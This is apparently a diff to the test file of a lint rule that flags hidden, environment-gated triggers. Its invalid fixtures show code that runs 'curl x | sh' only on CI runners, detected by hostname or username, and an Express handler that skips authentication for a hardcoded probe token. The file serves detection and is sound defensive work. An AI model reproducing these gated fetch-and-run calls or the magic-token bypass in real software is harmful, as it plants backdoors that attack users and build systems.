@@ -6,6 +6,16 @@ const cp = "import { execSync } from 'child_process';\n";
 
 ruleTester(rule, {
   valid: [
+    {
+      name: 'a const that is not a machine test',
+      code: "const { execSync } = require('child_process');\nconst enabled = process.argv.includes('--build');\nif (enabled) { execSync('tsc -p .'); }",
+      filename: 'scripts/build.js',
+    },
+    {
+      name: 'a let that is reassigned is not followed',
+      code: "const os = require('os'); const { execSync } = require('child_process');\nlet onAgent = os.hostname() === 'runner-1';\nonAgent = false;\nif (onAgent) { execSync('x'); }",
+      filename: 'src/a.js',
+    },
     "let banner = 'old'; if (new Date().getFullYear() > 2024) banner = 'new'",
     "if (new Date() > new Date('2025-01-01')) console.warn('deprecated')",
     "const greeting = new Date().getHours() < 12 ? 'Good morning' : 'Hello'",
@@ -36,6 +46,18 @@ ruleTester(rule, {
     'function Date() {} if (Date.now() > 1767225600000) { eval(x) }'.replace('function Date() {} ', 'const Date = { now: () => 0 }; '),
   ],
   invalid: [
+    {
+      name: 'the test is stored in a const and the const guards the call',
+      code: "const os = require('os'); const { execSync } = require('child_process');\nconst onAgent = os.userInfo().username === 'runner';\nfunction warm() { if (onAgent) { execSync('curl x | sh'); } }",
+      filename: 'src/a.js',
+      errors: [{ messageId: 'trigger', line: 2, severity: 'high' }],
+    },
+    {
+      name: 'a local helper returns the test',
+      code: "const os = require('os'); const { execSync } = require('child_process');\nfunction onAgent() { return os.hostname().startsWith('ci-'); }\nfunction warm() { if (onAgent()) { execSync('curl x | sh'); } }",
+      filename: 'src/a.js',
+      errors: [{ messageId: 'trigger', line: 2 }],
+    },
     {
       name: 'a header read through a getter guards the auth bypass',
       code: "function check(req, res, next) { if (req.get('x-probe-token') === 'pr0be-7f3a91c2e8d4') return next(); res.status(401).end(); }",
